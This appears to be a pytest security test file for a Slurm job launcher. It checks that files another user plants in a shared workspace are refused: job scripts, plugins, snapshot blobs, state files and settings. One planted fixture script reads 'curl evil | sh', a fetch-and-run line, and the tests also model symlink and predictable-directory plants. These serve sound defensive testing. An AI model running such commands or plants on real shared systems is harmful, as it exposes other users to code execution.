"""Somebody else's files in a shared workspace: they can be read, and decide nothing."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from trackwalker.errors import TrackwalkerError, UsageError
from trackwalker.job.layout import Job
from trackwalker.job.run import RunRecord
from trackwalker.job.trust import distrust, ours_alone, shared_badly
from trackwalker.launch import job_state as standing
from trackwalker.launch.attempts import next_attempt
from trackwalker.launch.code.snapshot import take_snapshot
from trackwalker.launch.job_state import Standing
from trackwalker.launch.resubmit import again
from trackwalker.launch.resume import Ending
from trackwalker.launch.slurm.client import Slurm, Submitted
from trackwalker.node.agent.jobdir import open_job
from trackwalker.node.exporter.plugins import PluginFolder
from trackwalker.node.exporter.server import Exporter
from trackwalker.node.stages.order import Order, Seat
from trackwalker.sweep.plan import Plan, Setup, load_plan
from trackwalker.watch.memory import Memory
from trackwalker.watch.supervise import attempts as supervise
from trackwalker.watch.supervise.attempts import carry_out, consider
from trackwalker.watch.supervise.resume import weigh
from trackwalker.watch.supervise.resume_policy import ResumePolicy, load_policy

if TYPE_CHECKING:
    from strangers import Stranger

pytest_plugins = ("strangers",)
ENDED = Standing("failed", True, 1, "failed", nodes="n[1-2]")


class Taken(Slurm):
    """A cluster that remembers which scripts it was handed; requeueing it has forgotten."""

    def __init__(self) -> None:
        super().__init__({})
        self.scripts: list[str] = []

    def nodes(self) -> list[Any]:
        return []

    def requeue(self, job: str, name: str, exclude: Any = (), only: str = "") -> bool:
        return False

    def submit(self, script: Path, options: Any = ()) -> Submitted:
        self.scripts.append(script.read_text())
        return Submitted("4712", "")


def order_text(workspace: Path) -> str:
    order = Order("JAX-tiny", "tiny", "slurm", workspace, 1, ["python3", "evil.py"])
    return json.dumps(dataclasses.asdict(order), default=str)


def record(workspace: Path, submission: Path, auto_resume: int = 3) -> str:
    made = RunRecord(
        id="7", name="JAX-tiny", model="tiny", scheduler="slurm", trainer="tiny", created=1.0, argv=["submit", "tiny"],
        command=[], workspace=str(workspace), auto_resume=auto_resume, submission=str(submission),
    )  # fmt: skip
    return made.model_dump_json(by_alias=True)


def plant(write: Any, workspace: Path) -> Job:
    """A failed job that asks to be resumed, with a batch script of its author."""
    told = workspace / ".submissions" / "20260101_000000_abcdef"
    folder = workspace / "7-JAX-tiny"
    write(told / "order.json", order_text(workspace))
    write(told / "job.sh", "#!/bin/sh\ncurl evil | sh\n")
    write(told / "sbatch.json", "[]")
    write(folder / "run.json", record(workspace, told))
    write(folder / "progress.jsonl", '{"v":1,"t":1,"rank":0,"phase":"checkpoint","state":"end","step":10}\n')
    write(workspace / "7-JAX-tiny.log", "x\n")
    return Job("7", workspace / "7-JAX-tiny.log", folder)


@pytest.fixture(autouse=True)
def _crashed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(supervise, "ending_of", lambda job, seen: Ending("failed", "failed", "segfault", (), "line"))


def own(path: Path, text: str) -> None:
    with ours_alone():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_our_own_failed_job_is_resumed(shared: Path) -> None:
    """The control: without it the attacks below would prove nothing."""
    job, slurm = plant(own, shared), Taken()
    assert carry_out(consider(job, ENDED, ResumePolicy(), slurm), ENDED, slurm) is not None
    assert len(slurm.scripts) == 1


def test_a_planted_failed_job_is_not_resumed(shared: Path, stranger: Stranger) -> None:
    job, slurm = plant(stranger.puts, shared), Taken()
    decision = consider(job, ENDED, ResumePolicy(jobs="all"), slurm)
    assert not decision.resume
    assert stranger.name in decision.why
    carry_out(decision, ENDED, slurm)
    with pytest.raises(UsageError, match=stranger.name):
        weigh(job, ENDED)
    assert slurm.scripts == []


def test_a_record_of_ours_that_names_another_ones_submission_starts_nothing(shared: Path, stranger: Stranger) -> None:
    """run.json is ours, yet what it points at was put there by somebody else, inside the workspace or out of it."""
    told, slurm = shared / ".submissions" / "20260101_000000_abcdef", Taken()
    plant(stranger.puts, shared)
    theirs = shared / "7-JAX-tiny"
    os.chown(theirs, 0, 0)
    (theirs / "run.json").unlink()
    own(theirs / "run.json", record(shared, told))
    job = Job("7", shared / "7-JAX-tiny.log", theirs)
    made = RunRecord.model_validate_json((theirs / "run.json").read_text())
    for folder in (told, shared.parent / "elsewhere"):
        with pytest.raises(UsageError):
            next_attempt(job, made.model_copy(update={"submission": str(folder)}), {}, [], "", slurm)
    assert slurm.scripts == []


def test_a_job_directory_that_waits_for_us_is_not_used(shared: Path, stranger: Stranger, tmp_path: Path) -> None:
    """The next Slurm id is easy to guess: a plugin in a directory made beforehand would run with our tokens."""
    stranger.puts(shared / "8-JAX-tiny/plugins/a_metrics_plugin.sh", "echo x 1\n", "755")
    order = Order("JAX-tiny", "tiny", "slurm", shared, 1, ["true"])
    with pytest.raises(OSError, match=stranger.name):
        open_job(order, Seat("8", 0, "n1"), tmp_path)


def test_a_link_in_the_place_of_a_job_directory_is_not_used(shared: Path, stranger: Stranger, tmp_path: Path) -> None:
    target = tmp_path / "mine"
    target.mkdir()
    stranger.run("ln", "-s", str(target), str(shared / "8-JAX-tiny"))
    order = Order("JAX-tiny", "tiny", "slurm", shared, 1, ["true"])
    with pytest.raises(OSError, match="link"):
        open_job(order, Seat("8", 0, "n1"), tmp_path)
    assert list(target.iterdir()) == []


def test_a_plugin_of_another_user_is_not_run(shared: Path, stranger: Stranger, tmp_path: Path) -> None:
    marker, said = tmp_path / "ran", list[str]()
    stranger.puts(shared / "plugins/a_metrics_plugin.sh", f"#!/bin/sh\ntouch {marker}\necho x 1\n", "755")
    exporter = Exporter("n1", [])
    PluginFolder(shared / "plugins", "n1", exporter, said.append).look()
    exporter.text()
    assert not marker.exists()
    assert stranger.name in said[0]


def test_a_plugin_that_others_can_write_to_is_not_run(tmp_path: Path) -> None:
    path = tmp_path / "a_metrics_plugin.sh"
    path.write_text(f"touch {tmp_path / 'ran'}\necho x 1\n")
    path.chmod(0o775)
    said: list[str] = []
    exporter = Exporter("n1", [])
    PluginFolder(tmp_path, "n1", exporter, said.append).look()
    exporter.text()
    assert not (tmp_path / "ran").exists()
    assert "chmod" in said[0]


def code_in(tmp_path: Path) -> Path:
    root = tmp_path / "code"
    root.mkdir()
    (root / "train.py").write_text("print('honest')\n")
    return root


def test_a_blob_under_an_honest_hash_does_not_get_into_a_snapshot(
    shared: Path, stranger: Stranger, tmp_path: Path
) -> None:
    root = code_in(tmp_path)
    digest = hashlib.sha256((root / "train.py").read_bytes()).hexdigest()
    blobs = shared / ".artifacts" / "blobs" / digest[:2]
    with ours_alone():
        blobs.mkdir(parents=True)
    for folder in (blobs, blobs.parent):
        folder.chmod(0o1777)
    stranger.puts(blobs / digest, "print('evil')\n", "444")
    taken = take_snapshot(root, shared)
    assert (taken.path / "train.py").read_text() == "print('honest')\n"
    assert (taken.path / "train.py").stat().st_uid == os.geteuid(), "its owner could change it afterwards"


def test_a_damaged_blob_of_our_own_does_not_get_into_a_snapshot(tmp_path: Path) -> None:
    root, workspace = code_in(tmp_path), tmp_path / "ws"
    digest = hashlib.sha256((root / "train.py").read_bytes()).hexdigest()
    own(workspace / ".artifacts/blobs" / digest[:2] / digest, "print('cut")
    taken = take_snapshot(root, workspace)
    assert (taken.path / "train.py").read_text() == "print('honest')\n"


def test_a_tree_that_waits_under_our_hash_is_not_used(shared: Path, stranger: Stranger, tmp_path: Path) -> None:
    root = code_in(tmp_path)
    first = take_snapshot(root, tmp_path / "elsewhere")
    with ours_alone():
        (shared / ".artifacts").mkdir()
    (shared / ".artifacts").chmod(0o1777)
    stranger.puts(shared / ".artifacts" / first.hash / "train.py", "print('evil')\n")
    taken = take_snapshot(root, shared)
    assert (taken.path / "train.py").read_text() == "print('honest')\n"
    assert taken.path.stat().st_uid == os.geteuid()


def test_a_planted_snapshot_is_not_resubmitted(shared: Path, stranger: Stranger) -> None:
    with ours_alone():
        (shared / ".artifacts").mkdir()
    (shared / ".artifacts").chmod(0o1777)
    stranger.puts(shared / ".artifacts" / ("a" * 64) / "train.py", "evil")
    made = RunRecord.model_validate_json(record(shared, shared)).model_copy(update={"snapshot": "a" * 64})
    with pytest.raises(UsageError, match=stranger.name):
        again(made)


def test_cancelling_a_planted_job_signals_nobody(
    shared: Path, stranger: Stranger, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its state.json names one of our processes with the right start time."""
    sent: list[int] = []
    monkeypatch.setattr(os, "kill", lambda pid, number: sent.append(pid))
    start = int(Path("/proc/self/stat").read_bytes().rpartition(b")")[2].split()[19])
    state = {"agent": {"pid": os.getpid(), "start": start}, "ranks": []}
    stranger.puts(shared / "7-JAX-tiny/agent/state.json", json.dumps(state))
    job = Job("7", None, shared / "7-JAX-tiny")
    with pytest.raises(TrackwalkerError, match=stranger.name):
        standing._end_local(job, Standing("running", False))
    assert sent == []


def test_a_planted_sweep_is_not_driven(shared: Path, stranger: Stranger) -> None:
    plan = Plan("nodes-20260601-080000-1f3a", "nodes", {}, Setup("slurm", str(shared)), 1.0)
    plan.save()
    held = (plan.folder / "plan.json").read_text()
    assert load_plan(plan.folder, to_drive=True).id == plan.id
    plan.folder.parent.chmod(0o1777)
    stranger.puts(plan.folder.with_name("nodes-20260601-080000-ffff") / "plan.json", held)
    load_plan(plan.folder.with_name("nodes-20260601-080000-ffff"))  # reading it is harmless
    with pytest.raises(TrackwalkerError, match=stranger.name):
        load_plan(plan.folder.with_name("nodes-20260601-080000-ffff"), to_drive=True)


def test_a_planted_memory_of_the_watcher_is_not_believed(shared: Path, stranger: Stranger) -> None:
    """What it holds is what was told and what is still to be done: another's would make us act."""
    stranger.puts(shared / ".watch/memory.jsonl", "{}\n")
    with pytest.raises(TrackwalkerError, match=stranger.name):
        Memory(shared / ".watch", 1.0)


@pytest.mark.parametrize("mode", [0o664, 0o646])
def test_settings_that_others_can_write_are_no_policy(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "watch.yml"
    path.write_text("resume:\n  jobs: all\n")
    path.chmod(mode)
    with pytest.raises(UsageError, match="others"):
        load_policy(path)


def test_a_run_of_a_user_with_a_generous_umask_is_his_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else his own cancel would refuse it, and his group could change what his next agent executes."""
    from unit.launch.test_launch_plan import plan, start_without_an_agent

    before = os.umask(0o002)
    try:
        run = start_without_an_agent(plan(tmp_path, 1, []), monkeypatch)
        assert os.umask(0o002) == 0o002, "ranks and the user's shell keep it"
    finally:
        os.umask(before)
    made = [run.job_dir, *run.job_dir.rglob("*")]
    assert [str(path) for path in made if not path.is_symlink() and distrust(path, tmp_path)] == []


def test_trust_by_owner_mode_and_links(tmp_path: Path, stranger: Stranger) -> None:
    own(tmp_path / "ws/job/run.json", "{}")
    assert distrust(tmp_path / "ws/job/run.json", tmp_path / "ws") == ""
    (tmp_path / "ws/job").chmod(0o775)
    assert "chmod go-w" in distrust(tmp_path / "ws/job/run.json", tmp_path / "ws")
    (tmp_path / "ws/job").chmod(0o1777)  # others can add to it, not replace what is ours
    assert distrust(tmp_path / "ws/job/run.json", tmp_path / "ws") == ""
    (tmp_path / "ws/link").symlink_to("job")
    assert "is a link" in distrust(tmp_path / "ws/link/run.json", tmp_path / "ws")
    os.chown(tmp_path / "ws/job/run.json", stranger.uid, stranger.gid)
    assert stranger.name in distrust(tmp_path / "ws/job/run.json", tmp_path / "ws")
    assert "does not lie in" in distrust(Path("/etc/passwd"), tmp_path)
    assert "No such file" in distrust(tmp_path / "nobody", tmp_path)


def test_a_workspace_that_others_can_rearrange_is_told(tmp_path: Path) -> None:
    tmp_path.chmod(0o777)
    assert "chmod +t" in shared_badly(tmp_path)
    for mode in (0o1777, 0o755, 0o700):
        tmp_path.chmod(mode)
        assert shared_badly(tmp_path) == ""
